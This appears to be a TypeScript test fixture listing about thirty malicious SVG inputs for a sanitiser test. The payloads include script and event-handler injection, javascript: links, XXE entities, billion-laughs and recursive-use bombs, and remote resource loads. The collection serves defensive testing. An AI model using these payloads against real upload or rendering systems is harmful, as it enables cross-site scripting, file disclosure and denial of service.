import { mime } from '../../src/mlops/payloads/mime.ts';
import { attacks, remote, script } from './attack.ts';

const open = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"';
const box = '<rect width="9" height="9"/>';
const drawing = (content: string, attributes = '') => `${open} ${attributes}>${content}${box}</svg>`;

export const svgAttacks = attacks(mime.svg, {
  'a load handler': drawing('', `onload="${script}"`),
  'a script': drawing(`<script>${script}</script>`),
  'a script in a CDATA section': drawing(`<script><![CDATA[${script}]]></script>`),
  'a script of an address': drawing(`<script href="${remote}/1.js"/><script xlink:href="${remote}/2.js"/>`),
  'a script of another namespace': drawing(`<x:script xmlns:x="http://www.w3.org/1999/xhtml">${script}</x:script>`),
  'a handler that begins by itself': drawing(`<animate onbegin="${script}" attributeName="x" dur="1s"/>`),
  'an attribute that is set to a script': drawing(`<a><set attributeName="href" to="javascript:${script}"/>${box}</a>`),
  'an address that is animated': drawing(
    `<image width="9" height="9"><animate attributeName="href" values="${remote}/3.png"/></image>`,
  ),
  'a link to a script': drawing(`<a href="javascript:${script}" xlink:href="javascript:${script}">${box}</a>`),
  'HTML inside': drawing(
    `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${script}"/><iframe src="${remote}/4"/></body></foreignObject>`,
  ),
  'a frame inside': drawing(`<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>${script}&lt;/script>"/>`),
  'a picture of an address': drawing(
    `<image href="${remote}/5.png" width="9" height="9"/><image xlink:href="${remote}/6.png" width="9" height="9"/>`,
  ),
  'a part of another file': drawing(`<use href="${remote}/7.svg#a"/>`),
  'a part of a data URL': drawing(
    `<use href="data:image/svg+xml,${encodeURIComponent(`${open} id="a" onload="${script}"/>`)}#a"/>`,
  ),
  'a filter that loads': drawing(
    `<filter id="f"><feImage href="${remote}/8.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  ),
  'colours that load': drawing(
    `<rect fill="url(${remote}/9.svg#p)" mask="url(${remote}/10.svg#m)" cursor="url(${remote}/11.cur)" width="9" height="9"/>`,
  ),
  'a sheet that loads': drawing(
    `<style>@import '${remote}/12.css'; rect { fill: url(${remote}/13.svg#p) } @font-face { font-family: f; src: url(${remote}/14.woff) }</style>`,
  ),
  'a sheet of an address': `<?xml version="1.0"?><?xml-stylesheet href="${remote}/15.css"?>${drawing('')}`,
  'a transformation of an address': `<?xml-stylesheet type="text/xsl" href="${remote}/16.xsl"?>${drawing('')}`,
  'an external entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "${remote}/17.txt">]>${drawing('<text>&x;</text>')}`,
  'an external document type': `<!DOCTYPE svg PUBLIC "x" "${remote}/18.dtd">${drawing('')}`,
  'entities of entities': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'bcdefghij'[i]} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>${drawing('<text>&j;</text>')}`,
  'parts of parts': drawing(
    `<g id="a0">${box}</g>${Array.from({ length: 15 }, (_, i) => `<g id="a${i + 1}">${`<use href="#a${i}"/>`.repeat(10)}</g>`).join('')}`,
  ),
  'a part of itself': drawing('<g id="a"><use href="#a"/></g><use href="#a"/>'),
  'HTML that is no SVG': `<img src=x onerror=${script}>`,
  'SVG that is no XML': `<svg><img src=x onerror=${script}>`,
  'a script after the drawing': `${drawing('')}<script>${script}</script>`,
  'a data URL that is left': `<svg xmlns="http://www.w3.org/2000/svg"><text>"/><img src=x onerror=${script}></text></svg>`,
  'a title with markup': drawing(`<title>&lt;img src=x onerror=${script}&gt;</title>`),
  'a handler of an event of its own': drawing(
    `<handler xmlns="http://www.w3.org/2001/xml-events" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events">${script}</handler>`,
  ),
  media: drawing(
    `<video xmlns="http://www.w3.org/1999/xhtml" src="${remote}/19.mp4"/><audio xmlns="http://www.w3.org/1999/xhtml" src="${remote}/20.mp3"/>`,
  ),
});
